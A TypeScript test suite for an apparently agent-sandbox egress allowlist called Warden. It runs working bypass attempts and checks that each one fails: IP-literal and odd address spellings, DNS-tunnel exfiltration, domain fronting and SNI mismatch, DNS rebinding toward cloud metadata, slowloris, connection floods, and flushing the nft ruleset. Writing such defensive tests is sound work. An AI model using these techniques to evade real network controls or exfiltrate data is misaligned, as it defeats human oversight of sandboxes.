// The egress test suite, run once per design (root: host nft + veth; rootless: user+net
// namespace + in-namespace relay). Clients run under bwrap with all capabilities dropped,
// inside the sandbox network, like an agent under `warden run`. Every bypass attempt is
// checked twice: the client must fail AND the target server must have seen nothing.
import dnsPacket from 'dns-packet';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { UnstampedEvent } from '../../../src/events/types.js';
import type { PreparedNetwork } from '../../../src/sandbox/network-provider.js';
import { formatIPv4, parseStrictIPv4 } from '../../../src/egress/ip.js';
import { startInternet, suffix, type Internet } from './internet.js';
import { curl, node, py, runIn } from './sbx.js';

// The built module (the rootless relay must be compiled JS).
const egress = (await import('../../../dist/egress/index.js')) as typeof import('../../../src/egress/index.js');

export function egressSuite(mode: 'root' | 'rootless'): void {
  let inet: Internet;
  let net: PreparedNetwork;
  let sbx: string[];
  const events: UnstampedEvent[] = [];
  const id = `t-${mode}-${suffix()}`;
  const allow = [
    'allowed.test',
    'allowed.test:22',
    'allowed.test:25',
    'other.test',
    'other.test:7',
    '*.wild.test',
    'rebind-lo.test',
    'rebind-meta.test',
    'rebind-private.test',
  ];

  beforeAll(async () => {
    inet = await startInternet(
      (a) => ({
        'allowed.test': a[0]!,
        'denied.test': a[1]!,
        'other.test': a[2]!,
        '*.wild.test': a[0]!,
        'rebind-lo.test': '127.0.0.1',
        'rebind-meta.test': '169.254.169.254',
        'rebind-private.test': '10.1.2.3',
      }),
      ['allowed.test', 'denied.test', 'other.test', '*.wild.test'],
    );
    net = await egress.allowlistProvider({ headerTimeoutMs: 1500, maxConnections: 300, procLookup: true }).prepare({
      sandboxId: id,
      allow,
      resolve: {},
      upstreamDns: [inet.dns],
      root: mode === 'root',
      emit: (e) => events.push(e),
    });
    const bwrapArgs = Array.isArray(net.bwrapArgs) ? net.bwrapArgs : [];
    sbx = [
      ...net.commandPrefix,
      'bwrap', '--ro-bind', '/', '/', '--dev', '/dev', '--proc', '/proc', '--tmpfs', '/tmp',
      '--unshare-pid', '--unshare-ipc', '--die-with-parent', '--cap-drop', 'ALL',
      ...bwrapArgs,
      '--',
    ];
  });

  afterAll(async () => {
    await net?.cleanup();
    await inet?.stop();
  });

  const denies = (reason: string) => events.filter((e) => e.kind === 'egress.deny' && e.data?.reason === reason);
  const hitsOn = (i: number, srv?: string) => inet.hits(inet.addrs[i]!, srv);
  const pathHits = (p: string) => inet.logs.filter((l) => l.path === p);

  describe(`egress allowlist (${mode} mode): allowed traffic`, () => {
    it('HTTP to an allowed name reaches its server', async () => {
      const r = await curl(sbx, ['http://allowed.test/ok-http']);
      expect(r.stderr).toBe('');
      expect(r.stdout).toContain(`hello from http ${inet.addrs[0]} host=allowed.test`);
      expect(pathHits('/ok-http')).toHaveLength(1);
      const ev = events.find((e) => e.kind === 'egress.allow' && e.net?.dst_port === 80);
      expect(ev).toMatchObject({ sandbox: { id }, net: { host: 'allowed.test', proto: 'tcp' }, data: { rule: 'allowed.test', protocol: 'http' } });
    });

    it('HTTPS to an allowed name: SNI checked, TLS end to end (no interception)', async () => {
      const r = await curl(sbx, ['--cacert', inet.certFile, 'https://allowed.test/ok-https']);
      expect(r.stderr).toBe('');
      expect(r.stdout).toContain('sni=allowed.test');
      expect(pathHits('/ok-https')[0]).toMatchObject({ sni: 'allowed.test', local: inet.addrs[0] });
    });

    it('a wildcard entry allows names under it', async () => {
      const r = await curl(sbx, ['http://pkg.wild.test/ok-wild']);
      expect(r.stdout).toContain('host=pkg.wild.test');
    });

    it('a ClientHello split across TLS records and tiny TCP segments is still read (and checked)', async () => {
      const split = (sni: string, p: string) => py(sbx, `
import socket, ssl, time, sys
ctx = ssl.create_default_context(cafile="${inet.certFile}")
inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
obj = ctx.wrap_bio(inc, out, server_hostname="SNI_HERE")
try: obj.do_handshake()
except ssl.SSLWantReadError: pass
hello = out.read()
hs = hello[5:]
recs = b"".join(b"\\x16\\x03\\x01" + len(hs[i:i+40]).to_bytes(2, "big") + hs[i:i+40] for i in range(0, len(hs), 40))
s = socket.create_connection(("allowed.test", 443), timeout=5)
s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
for i in range(0, len(recs), 7):
  s.sendall(recs[i:i+7]); time.sleep(0.002)
try:
  while True:
    try:
      obj.do_handshake(); break
    except ssl.SSLWantReadError:
      d = s.recv(65536)
      if not d: print("EOF"); sys.exit(0)
      inc.write(d)
      o = out.read()
      if o: s.sendall(o)
  o = out.read()
  if o: s.sendall(o)
  obj.write(b"GET PATH_HERE HTTP/1.1\\r\\nHost: allowed.test\\r\\nConnection: close\\r\\n\\r\\n"); s.sendall(out.read())
  body = b""
  while True:
    d = s.recv(65536)
    if not d: break
    inc.write(d)
    while True:
      try:
        chunk = obj.read(65536)
        if not chunk: break
        body += chunk
      except (ssl.SSLWantReadError, ssl.SSLZeroReturnError): break
  print(body.decode(errors="replace"))
except ssl.SSLError as e:
  print("TLSERR", e.reason)`.replace('SNI_HERE', sni).replace('PATH_HERE', p));
      const ok = await split('allowed.test', '/split-ok');
      expect(ok.stdout).toContain('sni=allowed.test');
      expect(pathHits('/split-ok')).toHaveLength(1);
      const bad = await split('denied.test', '/split-bad');
      expect(bad.stdout).toMatch(/TLSERR|EOF/);
      expect(pathHits('/split-bad')).toHaveLength(0);
      expect(denies('sni-mismatch').some((e) => e.data?.sni === 'denied.test')).toBe(true);
    });

    it('non-HTTP TCP by name and listed port (ssh-like, client speaks after banner)', async () => {
      const r = await py(sbx, `
import socket
s = socket.create_connection(("allowed.test", 22), timeout=5)
print(s.recv(100).decode().strip())
s.sendall(b"ping-22\\n"); print(s.recv(100).decode().strip())`);
      expect(r.stdout).toBe('SSH-2.0-TestServer\nping-22\n');
    });

    it('bulk data both ways at once arrives intact (spliced flow, half-close)', async () => {
      const r = await py(sbx, `
import socket, os, hashlib, threading
data = os.urandom(24 << 20)
s = socket.create_connection(("other.test", 7), timeout=20)
def send():
  s.sendall(data); s.shutdown(socket.SHUT_WR)
t = threading.Thread(target=send); t.start()
h = hashlib.sha256(); n = 0
while True:
  d = s.recv(1 << 20)
  if not d: break
  h.update(d); n += len(d)
t.join()
print(n == len(data) and h.hexdigest() == hashlib.sha256(data).hexdigest(), n)`, 60_000);
      expect(r.stdout.trim()).toBe(`True ${24 << 20}`);
    });

    it('server-speaks-first protocols work (banner before any client byte)', async () => {
      const r = await py(sbx, `
import socket
s = socket.create_connection(("allowed.test", 25), timeout=5)
print(s.recv(100).decode().strip())`);
      expect(r.stdout.trim()).toBe('220 smtp.test ESMTP');
    });

    it('the process behind a denied connection is named when it can be found', async () => {
      await py(sbx, `
import socket, time
s = socket.create_connection(("allowed.test", 7), timeout=5)
time.sleep(0.3)
try: s.recv(10)
except Exception: pass`);
      const ev = denies('port-not-allowed').at(-1);
      expect(ev?.net).toMatchObject({ host: 'allowed.test', dst_port: 7 });
      expect(ev?.proc?.argv?.[0]).toMatch(/python/);
    });
  });

  describe(`egress allowlist (${mode} mode): bypass attempts (each must fail)`, () => {
    it('connecting by IP address, ignoring proxy settings', async () => {
      const before = hitsOn(1).length + hitsOn(0).length;
      const r1 = await curl(sbx, [`http://${inet.addrs[1]}/by-ip`]);
      const r2 = await curl(sbx, [`http://${inet.addrs[0]}/by-ip`]); // even the allowed server's address
      expect(r1.stdout).toMatch(/Warden egress denied/);
      expect(r2.stdout).toMatch(/Warden egress denied/);
      const raw = await py(sbx, `
import socket
try:
  s = socket.create_connection(("${inet.addrs[1]}", 22), timeout=3); print(repr(s.recv(100)))
except Exception as e: print("ERR", type(e).__name__)`);
      expect(raw.stdout).not.toContain('SSH-2.0');
      expect(hitsOn(1).length + hitsOn(0).length).toBe(before);
      expect(denies('ip-literal').length).toBeGreaterThanOrEqual(3);
    });

    it('UDP DNS to another resolver is answered by Warden, never by that resolver', async () => {
      const before = inet.logs.filter((l) => l.srv === 'dns').length;
      const r = await runIn(sbx, ['dig', '+short', '+time=2', '+tries=1', `@${inet.dns}`, 'denied.test']);
      expect(r.stdout.trim()).toBe('');
      const r2 = await runIn(sbx, ['dig', '+short', '+time=2', '+tries=1', `@${inet.dns}`, 'allowed.test']);
      expect(r2.stdout.trim()).toMatch(/^198\.1[89]\./); // our synthetic answer, not the real one
      expect(inet.logs.filter((l) => l.srv === 'dns').length).toBe(before);
    });

    it('UDP to any other port goes nowhere', async () => {
      await py(sbx, `
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(5):
  try: s.sendto(b"exfil", ("${inet.addrs[1]}", 9999))
  except Exception: pass
  try: s.sendto(b"exfil", ("${inet.dns}", 5353))
  except Exception: pass`);
      await new Promise((r) => setTimeout(r, 300));
      expect(inet.logs.filter((l) => l.srv === 'udp-sink')).toHaveLength(0);
    });

    it('DNS over TCP (to the upstream resolver or to Warden) fails', async () => {
      const r1 = await runIn(sbx, ['dig', '+tcp', '+time=2', '+tries=1', `@${inet.dns}`, 'denied.test']);
      expect(r1.stdout).not.toMatch(/ANSWER: [1-9]/);
      expect(inet.logs.filter((l) => l.srv === 'dns-tcp')).toHaveLength(0);
      const r2 = await runIn(sbx, ['dig', '+tcp', '+time=2', '+tries=1', 'allowed.test']);
      expect(r2.stdout).not.toMatch(/ANSWER: [1-9]/);
    });

    it('a sandbox DNS query is never forwarded upstream', async () => {
      const probe = `probe-${suffix()}.wild.test`;
      const r = await runIn(sbx, ['dig', '+short', '+time=2', '+tries=1', probe]);
      expect(r.stdout.trim()).toMatch(/^198\.1[89]\./);
      await new Promise((res) => setTimeout(res, 200));
      expect(inet.logs.some((l) => l.srv === 'dns' && l.name === probe)).toBe(false);
    });

    it('DNS exfiltration through a wildcard: a burst of fresh labels is refused and alerted', async () => {
      const tag = suffix();
      const r = await py(sbx, `
import socket
ok = 0
for i in range(120):
  try:
    socket.getaddrinfo("x%d-${tag}-secretdata.wild.test" % i, 80, socket.AF_INET); ok += 1
  except Exception: pass
print(ok)`, 60_000);
      const answered = Number(r.stdout.trim());
      expect(answered).toBeLessThanOrEqual(40);
      const alert = events.find((e) => e.kind === 'net.dns' && e.severity === 'alert');
      expect(alert).toMatchObject({ rule: 'egress.dns_tunnel', category: 'exfiltration' });
      // Only names the sandbox then connects to are ever resolved upstream; none were.
      expect(inet.logs.filter((l) => l.srv === 'dns' && l.name?.includes(tag))).toHaveLength(0);
    });

    it('plain HTTP with a Host other than the resolved name (domain fronting) is refused', async () => {
      const r = await curl(sbx, ['-H', 'Host: denied.test', 'http://allowed.test/front-1']);
      expect(r.stdout).toContain('Warden egress denied');
      const r2 = await curl(sbx, ['-H', 'Host: allowed.test', 'http://other.test/front-2']); // even between two allowed names
      expect(r2.stdout).toContain('Warden egress denied');
      expect(pathHits('/front-1')).toHaveLength(0);
      expect(pathHits('/front-2')).toHaveLength(0);
      expect(denies('host-mismatch').length).toBeGreaterThanOrEqual(2);
    });

    it('TLS with the SNI of a denied name to an allowed name\'s address is refused', async () => {
      // curl resolves allowed.test (through Warden) but sends SNI and Host denied.test
      const r = await curl(sbx, ['--cacert', inet.certFile, '--connect-to', 'denied.test:443:allowed.test:443', 'https://denied.test/sni-1']);
      expect(r.code).not.toBe(0);
      expect(r.stderr).toMatch(/alert|SSL|reset/i);
      expect(pathHits('/sni-1')).toHaveLength(0);
      expect(denies('sni-mismatch').at(-1)).toMatchObject({ data: { sni: 'denied.test' } });
    });

    it('TLS with the SNI of an allowed name and the Host of a denied one never reaches the denied server', async () => {
      // The Host header travels inside TLS (no interception): it can only reach the server the
      // name resolved to. The denied server must see nothing.
      const before = hitsOn(1).length;
      await curl(sbx, ['--cacert', inet.certFile, '-H', 'Host: denied.test', 'https://allowed.test/sni-2']);
      expect(hitsOn(1).length).toBe(before);
      expect(pathHits('/sni-2').every((l) => l.local === inet.addrs[0])).toBe(true);
    });

    it('CONNECT and absolute-form proxy requests to a denied host are refused', async () => {
      const r1 = await curl(sbx, ['-p', '-x', 'http://allowed.test:80', 'http://denied.test/connect-1']);
      expect(r1.code).not.toBe(0);
      const r2 = await curl(sbx, ['-x', 'http://allowed.test:80', 'http://denied.test/connect-2']);
      expect(r2.stdout).toContain('Warden egress denied');
      expect(pathHits('/connect-1')).toHaveLength(0);
      expect(pathHits('/connect-2')).toHaveLength(0);
      expect(hitsOn(1)).toHaveLength(0);
      expect(denies('connect-method').length).toBeGreaterThanOrEqual(1);
    });

    it('IPv6 literals fail closed', async () => {
      const r1 = await curl(sbx, ['-g', 'http://[2001:db8::1]/v6'], 4);
      expect(r1.code).not.toBe(0);
      const r2 = await curl(sbx, ['-g', `http://[::ffff:${inet.addrs[1]}]/v6-mapped`], 4);
      expect(r2.stdout).not.toContain('hello');
      const r3 = await py(sbx, `
import socket
for a in ["2001:db8::1", "::1"]:
  try: socket.create_connection((a, 80), timeout=2); print("connected", a)
  except Exception as e: print("ERR", type(e).__name__)`);
      expect(r3.stdout).not.toContain('connected 2001');
      expect(pathHits('/v6-mapped')).toHaveLength(0);
    });

    it('0.0.0.0 and localhost tricks reach nothing outside the sandbox', async () => {
      const denials = new URL(net.endpoints!.denials!);
      const at = (host: string) => `http://${host}:${denials.port}${denials.pathname}`;
      for (const u of [at('0.0.0.0'), at('127.0.0.1'), at('localhost'), 'http://0.0.0.0/', 'http://[::]/']) {
        const r = await curl(sbx, ['-g', u], 3);
        expect(r.stdout).not.toContain('"denials"');
        expect(r.stdout).not.toContain('hello from');
      }
      // A name containing "localhost" or an allowed name is just a name: refused by DNS.
      const r = await runIn(sbx, ['dig', '+short', '+time=2', '+tries=1', 'localhost.allowed.test']);
      expect(r.stdout.trim()).toBe('');
    });

    it('decimal, octal and hex spellings of an address are still addresses', async () => {
      const v = parseStrictIPv4(inet.addrs[1]!)!;
      const b = formatIPv4(v).split('.').map(Number);
      const spellings = [String(v), '0x' + v.toString(16), b.map((x) => '0' + x.toString(8)).join('.'), `${b[0]}.${(v & 0xffffff)}`, b.map((x) => '0x' + x.toString(16)).join('.')];
      for (const s of spellings) {
        const r = await curl(sbx, [`http://${s}/spelled`], 3);
        expect(r.stdout).not.toContain('hello from');
      }
      expect(pathHits('/spelled')).toHaveLength(0);
      const d = await runIn(sbx, ['dig', '+short', '+time=2', '+tries=1', String(v)]);
      expect(d.stdout.trim()).toBe('');
    });

    it('names that resolve to loopback, metadata or private addresses are refused (DNS rebinding)', async () => {
      for (const [n, cls] of [['rebind-lo.test', 'loopback'], ['rebind-meta.test', 'metadata'], ['rebind-private.test', 'private']] as const) {
        const r = await curl(sbx, [`http://${n}/rebind`], 4);
        expect(r.stdout).toContain('Warden egress denied');
        expect(denies(`resolves-to-${cls}`).at(-1)?.net?.host).toBe(n);
      }
    });

    it('a port not listed for an allowed name is refused', async () => {
      const r = await py(sbx, `
import socket
s = socket.create_connection(("allowed.test", 7), timeout=3)
s.sendall(b"echo?")
try: print(repr(s.recv(100)))
except Exception as e: print("ERR", type(e).__name__)`);
      expect(r.stdout).not.toContain('echo?');
      expect(hitsOn(0, 'echo')).toHaveLength(0);
    });

    it('ICMP goes nowhere', async () => {
      const r = await runIn(sbx, ['ping', '-c', '1', '-W', '1', inet.addrs[1]!], 5000);
      expect(r.code).not.toBe(0);
    });

    it('slowloris: a request head that never completes is cut off', async () => {
      const r = await py(sbx, `
import socket, time
s = socket.create_connection(("allowed.test", 80), timeout=10)
s.sendall(b"GET /slow HTTP/1.1\\r\\nHost: allowed.test\\r\\nX-Pad: ")
sent = 0; closed = False; t0 = time.time()
while time.time() - t0 < 8:
  try:
    s.sendall(b"a"); sent += 1
    s.settimeout(0.2)
    d = s.recv(200)
    if d is not None: closed = True; print("reply", d[:12]); break
  except socket.timeout: pass
  except Exception as e: closed = True; print("closed", type(e).__name__); break
print("sent", sent, "closed", closed)`, 20_000);
      expect(r.stdout).toMatch(/closed True/);
      expect(pathHits('/slow')).toHaveLength(0);
      expect(denies('header-timeout').length).toBeGreaterThanOrEqual(1);
    });

    it('1,000 concurrent connections are bounded, and the proxy keeps serving', async () => {
      // 1,000 idle connections at once: the proxy holds at most maxConnections (300) and
      // refuses the rest; held ones are cut at the header timeout. Every connection must be
      // accounted for. Bounded by count and time.
      const count = async () => {
        const body = (await (await fetch(net.endpoints!.denials!)).json()) as { denials: Array<{ reason: string; count: number }> };
        const sum = (r: string) => body.denials.filter((d) => d.reason === r).reduce((a, d) => a + d.count, 0);
        return { limit: sum('connection-limit'), timeout: sum('header-timeout') };
      };
      const before = await count();
      const r = await node(sbx, `
const net = require('net');
const N = 1000; let settled = 0; const socks = [];
const t = setTimeout(() => finish(false), 45000);
function finish(all) { clearTimeout(t); console.log(JSON.stringify({ settled, all })); for (const s of socks) s.destroy(); process.exit(0); }
require('dns').lookup('allowed.test', { family: 4 }, (err, addr) => {
  if (err) { console.log('dns', err.message); process.exit(1); }
  for (let i = 0; i < N; i++) {
    const s = net.connect(80, addr);
    socks.push(s);
    let done = false;
    s.on('error', () => {});
    s.on('close', () => { if (!done) { done = true; if (++settled === N) finish(true); } });
  }
});`, 60_000);
      const out = JSON.parse(r.stdout.trim().split('\n').at(-1)!) as { settled: number; all: boolean };
      expect(out).toEqual({ settled: 1000, all: true });
      await new Promise((res) => setTimeout(res, 300));
      const after = await count();
      const limit = after.limit - before.limit;
      const timeout = after.timeout - before.timeout;
      expect(limit).toBeGreaterThan(0); // the bound engaged
      expect(limit + timeout).toBe(1000); // nothing forwarded, nothing lost
      // Still serving once the flood is gone.
      const ok = await curl(sbx, ['http://allowed.test/after-flood']);
      expect(ok.stdout).toContain('hello from http');
    }, 120_000);

    it('capabilities dropped: the sandbox cannot change the rules that confine it', async () => {
      const r = await runIn(sbx, ['nft', 'flush', 'ruleset']);
      expect(r.code).not.toBe(0);
      const again = await curl(sbx, [`http://${inet.addrs[1]}/after-flush`], 3);
      expect(again.stdout).not.toContain('hello from');
    });
  });

  describe(`egress allowlist (${mode} mode): operations`, () => {
    it('reloads the allowlist without a restart', async () => {
      expect((await curl(sbx, ['http://denied.test/reload-1'])).stdout).not.toContain('hello');
      net.updateAllow!([...allow, 'denied.test']);
      const r = await curl(sbx, ['http://denied.test/reload-2']);
      expect(r.stdout).toContain(`hello from http ${inet.addrs[1]}`);
      net.updateAllow!(allow);
      expect((await curl(sbx, ['http://denied.test/reload-3'])).stdout).not.toContain('hello');
      expect(() => net.updateAllow!(['bad entry here'])).toThrow(/network.allow\[0\]/);
      expect(events.filter((e) => e.kind === 'egress.reload')).toHaveLength(2);
    });

    it('a listed address may be reached by address, on its listed port only', async () => {
      net.updateAllow!([...allow, `${inet.addrs[2]}:80`]);
      try {
        const ok = await curl(sbx, [`http://${inet.addrs[2]}/listed-ip`]);
        expect(ok.stdout).toContain(`hello from http ${inet.addrs[2]}`);
        const no = await curl(sbx, ['-k', `https://${inet.addrs[2]}/listed-ip-443`], 4);
        expect(no.stdout).not.toContain('hello');
        expect(pathHits('/listed-ip-443')).toHaveLength(0);
      } finally {
        net.updateAllow!(allow);
      }
    });

    it('the host loopback endpoint answers only with its token (any local user can reach 127.0.0.1)', async () => {
      const real = new URL(net.endpoints!.denials!);
      expect(real.pathname).toMatch(/^\/[0-9a-f]{32}\/denials$/);
      const base = `http://127.0.0.1:${real.port}`;
      for (const [method, p] of [['GET', '/denials'], ['POST', '/reload'], ['GET', `/${'0'.repeat(32)}/denials`], ['GET', '/']] as const) {
        const res = await fetch(base + p, { method });
        expect(res.status).toBe(404);
        const text = await res.text();
        expect(text).not.toContain('allowed.test');
        expect(text).not.toMatch(/[0-9a-f]{32}/);
      }
    });

    it('serves /denials on the host loopback with the rule to add', async () => {
      const res = await fetch(net.endpoints!.denials!);
      const body = (await res.json()) as { denials: Array<{ host?: string; reason: string; suggest?: string }>; suggest: string[] };
      expect(body.denials.some((d) => d.host === 'allowed.test' && d.reason === 'port-not-allowed' && d.suggest === 'allowed.test:7')).toBe(true);
      expect(body.suggest).toContain('allowed.test:7');
    });

    it('every decision event carries the sandbox id and the destination', () => {
      for (const e of events.filter((x) => x.kind === 'egress.allow' || x.kind === 'egress.deny')) {
        expect(e.sandbox?.id).toBe(id);
        expect(e.data?.reason).toBeTruthy();
      }
      for (const e of events.filter((x) => x.kind === 'net.dns')) expect(e.dns?.qtype).toBeTruthy();
    });

    it('DNS answers come with the synthetic address and respect the policy', async () => {
      const r = await runIn(sbx, ['dig', '+time=2', '+tries=1', 'allowed.test', 'AAAA']);
      expect(r.stdout).toMatch(/status: NOERROR/);
      expect(r.stdout).toMatch(/ANSWER: 0/);
      void dnsPacket;
    });
  });
}
